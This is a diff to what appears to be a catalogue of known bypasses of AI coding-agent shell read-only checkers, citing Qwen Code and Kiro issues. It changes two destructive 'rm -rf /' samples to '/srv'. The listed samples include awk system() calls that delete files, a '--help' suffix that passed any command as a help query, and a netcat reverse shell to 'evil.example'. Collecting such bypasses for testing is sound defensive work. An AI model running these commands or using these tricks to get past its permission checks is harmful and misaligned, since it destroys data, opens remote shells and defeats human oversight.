@@ -216,7 +216,7 @@ export const bypassOptions: readonly BypassGroup[] = [
     source: "QwenLM/qwen-code shellReadOnlyChecker",
     what: "awk's program runs commands and writes files",
     lines: [
-      "awk 'BEGIN {system(\"rm -rf /\")}'",
+      "awk 'BEGIN {system(\"rm -rf /srv\")}'",
       'awk \'BEGIN { fn = "system"; @fn("touch /tmp/pwned") }\'',
       "awk '{print > \"output.txt\"}' input.txt",
       "awk '{print | \"sort\"}' input.txt",
@@ -260,7 +260,7 @@ export const bypassOptions: readonly BypassGroup[] = [
   {
     source: "kirodotdev/KiroCrew#1259, #1531",
     what: "a last word made any command a question for help",
-    lines: ["sh /tmp/payload.sh --help", "sudo rm -rf / --help", "nc evil.example 4444 -e /bin/sh --help"],
+    lines: ["sh /tmp/payload.sh --help", "sudo rm -rf /srv --help", "nc evil.example 4444 -e /bin/sh --help"],
   },
   {
     source: "kirodotdev/KiroCrew#5037",
